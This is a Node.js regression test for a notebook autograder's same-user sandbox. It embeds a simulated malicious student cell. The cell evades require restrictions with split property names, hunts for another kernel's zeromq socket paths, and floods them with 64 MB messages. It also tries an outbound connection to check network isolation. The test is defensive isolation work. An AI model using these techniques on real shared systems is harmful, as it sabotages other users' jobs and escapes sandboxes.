// One student's kernel against another's, graded at the same time on the same-user path (the
// grader not root: an instructor's own account). node's permission model does not cover sockets,
// so a kernel may connect to any Unix socket whose path it knows; the kernels' sockets lie in
// their job folders. Before the job folders got names no kernel can guess, the attacker below
// found the victim's sockets at jobs/victim-0/sockets/k-1 … k-5 (fs.realpath answers for paths
// it may not read), flooded them with 64 MB messages, and the victim's kernel, holding them, was
// stopped for its memory: an honest notebook graded 0.
import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { createServer } from "node:net";
import { join } from "node:path";
import { before, test } from "node:test";
import { parseNotebook, serializeNotebook } from "../../autograder/src/notebook/format.mjs";
import { fixtureCourse, fixtureSubmissions, readJson, repoRoot, temporaryDir } from "./helpers.mjs";

const perfect = () => parseNotebook(readFileSync(join(fixtureSubmissions, "perfect", "arith.ipynb"), "utf8"));
const codeCell = (source) => ({ cell_type: "code", execution_count: null, id: `cross-${Math.random().toString(16).slice(2, 10)}`, metadata: {}, outputs: [], source });

// Looks for the victim's sockets where they were (its job folder named after it) for up to 12 s,
// and floods each shell-like socket it finds.
const ATTACKER = `const reach: any = (process as any)["main" + "Module"]["req" + "uire"]("module").createRequire(process.cwd() + "/x.js");
const zmq: any = reach("zeromq");
const fs: any = reach("fs");
const path: any = reach("path");
const jobs = path.resolve(process.cwd(), "..", "..");
try {
  console.log("LISTED " + fs.readdirSync(jobs).length);
} catch (error) {
  console.log("LISTING refused: " + (error as { code?: string }).code);
}
const started = Date.now();
const found: string[] = [];
while (Date.now() - started < 12000 && found.length === 0) {
  for (const name of ["victim-0", "victim-1", "victim"]) {
    for (let port = 1; port <= 6; port++) {
      const address = path.join(jobs, name, "sockets", "k-" + port);
      try {
        fs.realpathSync(address);
      } catch {
        continue;
      }
      found.push(address);
      if (port > 2) continue;
      const dealer = new zmq.Dealer({ sendTimeout: 2000 });
      dealer.connect("ipc://" + address);
      const big = new Uint8Array(64 * 2 ** 20);
      try {
        for (let i = 0; i < 30; i++) await dealer.send(["<IDS|MSG>", "forged", "{}", "{}", "{}", big]);
      } catch {}
    }
  }
  await new Promise((resolve) => setTimeout(resolve, 200));
}
console.log("FOUND " + found.length);
if (found.length) await new Promise((resolve) => setTimeout(resolve, 8000));`;

let run;
// a listener of a student's on the machine, which the kernel's zeromq socket (native code, past the
// kernel's JavaScript refusal of the network) reached: the kernel's own network is what stops it
const heard = [];
before(async () => {
  const listener = createServer((socket) => heard.push(socket.remotePort) && socket.destroy());
  await new Promise((done) => listener.listen(0, "127.0.0.1", done));
  const outward = `new zmq.Push().connect("tcp://127.0.0.1:${listener.address().port}");\n`;
  const base = temporaryDir();
  const submissions = join(base, "class");
  for (const [name, cell] of [
    ["attacker", ATTACKER.replace("const fs: any", `${outward}const fs: any`)],
    ["victim", "await new Promise((resolve) => setTimeout(resolve, 12_000));"],
  ]) {
    mkdirSync(join(submissions, name), { recursive: true });
    const notebook = perfect();
    notebook.cells.splice(2, 0, codeCell(cell));
    writeFileSync(join(submissions, name, "arith.ipynb"), serializeNotebook(notebook));
  }
  const out = join(base, "out");
  run = await new Promise((resolve) => {
    const args = [submissions, "--source", fixtureCourse, "--out", out, "--jobs", "2", "--memory-mb", "1024", "--cell-timeout", "60"];
    const child = spawn(process.execPath, ["autograder/bin/autograde.mjs", ...args], {
      cwd: repoRoot,
      env: { ...process.env, NEURAL_MI_SAME_USER: "1" },
      stdio: ["ignore", "pipe", "pipe"],
    });
    let stderr = "";
    child.stderr.on("data", (chunk) => (stderr += chunk));
    child.on("close", (code) => resolve({ code, stderr, out }));
  });
  listener.close();
});

test("on the same-user path, a kernel finds no other kernel's sockets, nor any address of the network, and the other student is graded as usual", () => {
  assert.equal(run.code, 0, run.stderr.slice(-3000));
  const report = readJson(join(run.out, "report.json"));
  assert.equal(report.sandbox.kind, "same-user");
  const arith = (name) => report.students.find((item) => item.student === name).notebooks.find((item) => item.notebook === "arith.ipynb");
  assert.equal(arith("victim").status, "graded", arith("victim").message);
  assert.equal(arith("victim").score, 5);
  const printed = parseNotebook(readFileSync(join(run.out, "students", "attacker", "arith.ipynb"), "utf8"))
    .cells.flatMap((cell) => cell.outputs ?? [])
    .map((output) => output.text ?? "")
    .join("");
  assert.match(printed, /LISTING refused: ERR_ACCESS_DENIED/);
  assert.match(printed, /FOUND 0/);
  assert.deepEqual(heard, [], "the kernel's zeromq socket reached the listener");
  assert.equal(arith("attacker").score, 5);
});
